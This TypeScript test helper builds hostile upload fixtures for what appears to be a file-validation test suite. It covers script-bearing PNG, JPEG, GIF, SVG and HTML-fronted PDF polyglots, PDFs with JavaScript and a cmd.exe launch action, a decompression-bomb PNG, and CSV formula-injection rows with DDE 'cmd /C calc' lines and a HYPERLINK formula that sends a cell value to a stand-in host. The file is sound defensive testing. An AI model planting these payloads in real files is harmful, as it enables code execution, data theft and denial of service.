// Hostile files made in the test, no binary fixtures: wrong types under image names, polyglots
// (one file that is valid as two formats), truncated and oversized images, photos carrying a GPS
// position in EXIF and XMP, SVG with script, and captures that are not text. Each builder names
// the format rule it leans on:
//   PNG   ISO/IEC 15948 (W3C PNG 2nd ed.) §5 chunks: length, type, data, CRC-32 (Annex D); tEXt §11.3.4.3; IEND last.
//   ZIP   PKWARE APPNOTE 6.3.x §4.3: local file header PK\3\4, central directory PK\1\2, end record PK\5\6.
//   GIF   GIF89a specification: the "GIF89a" signature, then a logical screen descriptor.
//   ELF   System V ABI: \x7fELF, class, data, version; PE: "MZ" DOS stub with e_lfanew → "PE\0\0".
//   XMP   ISO 16684-1: an rdf:Description with exif:GPSLatitude / exif:GPSLongitude (Exif 2.32 §4.6.6).
import { deflateSync } from "node:zlib";
import sharp from "sharp";
import { GPS, handMadePdf, jpegWithComment, noisePixels, objectStream, plainPng } from "./files";

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});

/** CRC-32 as PNG (Annex D) and ZIP use it. */
export function crc32(bytes: Uint8Array): number {
  let c = 0xffffffff;
  for (const b of bytes) c = CRC_TABLE[(c ^ b) & 0xff]! ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

function pngChunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, "latin1");
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])), 0);
  return Buffer.concat([head, data, crc]);
}

/** A PNG with one more chunk inserted just before IEND. */
export async function pngWithChunk(type: string, data: Buffer): Promise<Buffer> {
  const png = await plainPng({ width: 64, height: 48 });
  const iend = png.length - 12;
  return Buffer.concat([png.subarray(0, iend), pngChunk(type, data), png.subarray(iend)]);
}

/** A PNG whose tEXt comment is a page with a script: a valid image that is also markup. */
export function pngWithScriptComment(): Promise<Buffer> {
  return pngWithChunk("tEXt", Buffer.from("Comment\0<script>window.__fluxyardUpload=1</script>", "latin1"));
}

/** A one-file ZIP archive, stored (no compression). */
export function zipArchive(name = "payload.html", content = "<script>window.__fluxyardUpload=1</script>"): Buffer {
  const file = Buffer.from(name, "latin1");
  const data = Buffer.from(content, "latin1");
  const crc = crc32(data);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(file.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(data.length, 24);
  central.writeUInt16LE(file.length, 28);
  const localPart = Buffer.concat([local, file, data]);
  const centralPart = Buffer.concat([central, file]);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(centralPart.length, 12);
  end.writeUInt32LE(localPart.length, 16);
  return Buffer.concat([localPart, centralPart, end]);
}

/** A PNG with a ZIP appended after IEND: image viewers show the PNG, unzip finds the archive. */
export async function pngWithAppendedZip(): Promise<Buffer> {
  return Buffer.concat([await plainPng({ width: 64, height: 48 }), zipArchive("notes.txt", "payload-after-the-image")]);
}

/** A PDF with a ZIP appended after %%EOF (small enough that %%EOF stays near the end). */
export function pdfWithAppendedZip(): Buffer {
  return Buffer.concat([handMadePdf(), zipArchive("notes.txt", "payload-after-the-document")]);
}

/** The classic GIF/JavaScript polyglot: a GIF header that a script engine reads as a comment. */
export function gifScriptPolyglot(): Buffer {
  return Buffer.from("GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;window.__fluxyardUpload=1;//\x00;", "latin1");
}

/** A JPEG whose comment segment is SVG with an onload handler but no namespace: only re-encoding removes it. */
export function jpegWithSvgComment(): Promise<Buffer> {
  return jpegWithComment('<svg onload="window.__fluxyardUpload=1">');
}

/** A JPEG whose comment is a whole HTML page. */
export function jpegHtmlPolyglot(): Promise<Buffer> {
  return jpegWithComment("<html><body><script>window.__fluxyardUpload=1</script></body></html>");
}

/** PDFs that would run something: escaped names, additional actions, an object-stream script, a launch. */
export function pdfsWithActiveContent(): { what: string; bytes: Buffer; reason: string }[] {
  return [
    { what: "an open action spelled with #xx escapes", bytes: handMadePdf({ catalogExtra: "/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> " }), reason: "it contains embedded JavaScript" },
    { what: "a page's additional action", bytes: handMadePdf({ objects: ["<< /Type /Action /S /JavaScript /JS (this.exportDataObject\\({cName: 'a'}\\)) >>"] }), reason: "it contains embedded JavaScript" },
    { what: "a script inside a compressed object stream", bytes: handMadePdf({ objects: [objectStream(9, "<< /S /JavaScript /JS (app.alert\\(1\\)) >>")] }), reason: "it contains embedded JavaScript" },
    { what: "a launch action", bytes: handMadePdf({ catalogExtra: "/OpenAction << /S /Launch /F (cmd.exe) >> " }), reason: "it contains an action that launches a program" },
    { what: "an embedded file", bytes: handMadePdf({ objects: ["<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ..\nendstream"] }), reason: "it contains an embedded file" },
  ];
}

/** Markup in front of the PDF header: browsers sniff it as HTML, PDF readers still find %PDF- within 1024 bytes. */
export function htmlBeforePdf(): Buffer {
  return Buffer.concat([Buffer.from("<html><script>window.__fluxyardUpload=1</script>\n", "latin1"), handMadePdf()]);
}

/** A fake ELF header (System V ABI e_ident), not a working program. */
export function elfHeader(): Buffer {
  const bytes = Buffer.alloc(256);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]).copy(bytes, 0);
  bytes.writeUInt16LE(2, 16); // ET_EXEC
  bytes.writeUInt16LE(0x3e, 18); // x86-64
  return bytes;
}

/** A DOS/PE stub: "MZ", e_lfanew at 0x3C pointing at "PE\0\0"; not a working program. */
export function peHeader(): Buffer {
  const bytes = Buffer.alloc(256);
  bytes.write("MZ", 0, "latin1");
  bytes.writeUInt32LE(0x80, 0x3c);
  bytes.write("PE\0\0", 0x80, "latin1");
  return bytes;
}

export const SVG_WITH_SCRIPT = Buffer.from(
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="window.__fluxyardUpload=1"><script>window.__fluxyardUpload=2</script><rect width="10" height="10"/></svg>',
  "utf8",
);

/**
 * A PNG that claims 40 000 × 40 000 pixels (1.6 gigapixels, 4.8 GB decoded) in a few hundred bytes:
 * the IHDR says so, and one deflated row of zeros stands in for the image data.
 */
export function pngPixelBomb(side = 40_000): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(side, 0);
  ihdr.writeUInt32BE(side, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // truecolour
  const row = Buffer.alloc(1 + side * 3);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk("IHDR", ihdr),
    pngChunk("IDAT", deflateSync(row, { level: 9 })),
    pngChunk("IEND", Buffer.alloc(0)),
  ]);
}

/** An XMP packet with a GPS position (the same invented spot as files.ts's EXIF). */
export function gpsXmp(): string {
  return [
    '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">',
    '<rdf:Description rdf:about="" xmlns:exif="http://ns.adobe.com/exif/1.0/">',
    "<exif:GPSLatitude>52,31.2N</exif:GPSLatitude><exif:GPSLongitude>13,24.6E</exif:GPSLongitude>",
    "</rdf:Description></rdf:RDF></x:xmpmeta>",
  ].join("");
}

/** A PNG or WebP photo with a GPS position in both EXIF and XMP. */
export async function photoWithGps(format: "png" | "webp"): Promise<Buffer> {
  const image = sharp(noisePixels(320, 240), { raw: { width: 320, height: 240, channels: 3 } })
    .withExif({ IFD0: { Make: "Yardlight Optics" }, IFD3: { GPSLatitudeRef: "N", GPSLatitude: GPS.latitude, GPSLongitudeRef: "E", GPSLongitude: GPS.longitude } })
    .withXmp(gpsXmp());
  return format === "png" ? image.png().toBuffer() : image.webp({ quality: 90 }).toBuffer();
}

/** A capture that is not text: what a scope's own binary format (or a mis-saved file) looks like. */
export function binaryCapture(): Buffer {
  const header = Buffer.from("time_s,bus_V\n", "latin1");
  const samples = Buffer.alloc(4096);
  for (let i = 0; i < 1024; i++) samples.writeFloatLE(325 * Math.sin(i / 20), i * 4);
  return Buffer.concat([header, samples]);
}

/** The same CSV saved as UTF-16LE with a byte-order mark, as some desktop tools do. */
export function utf16Capture(): Buffer {
  return Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("time_s,bus_V\r\n0,325.1\r\n0.01,324.8\r\n", "utf16le")]);
}

/** A CSV whose cells a spreadsheet would run (OWASP CSV Injection). */
export const FORMULA_CAPTURES: { what: string; text: string }[] = [
  { what: "a HYPERLINK formula", text: 'time_s,bus_V\n0,325.1\n0.01,"=HYPERLINK(""http://x.invalid/?""&A1,""open"")"\n' },
  { what: "a DDE command", text: "time_s,bus_V\n0,325.1\n0.01,=cmd|' /C calc'!A0\n" },
  { what: "an @-function", text: "time_s;bus_V\n0;325,1\n0,01;@SUM(1+9)*cmd|' /C calc'!A0\n" },
  { what: "a signed DDE command", text: "time_s\tbus_V\n0\t325.1\n0.01\t+cmd|' /C calc'!A0\n" },
];

/** A real CSV export with metadata, a unit row and negative numbers: must still be taken. */
export const HONEST_CAPTURE =
  "Model,Bench scope 2\nSample Interval,1.000000e-06\nProbe,10X\nSource,CH1,CH2\nTime,Bus,Current\ns,V,A\n-5.000000e-04,325.12,-0.021\n-4.990000e-04,325.08,+0.019\n";
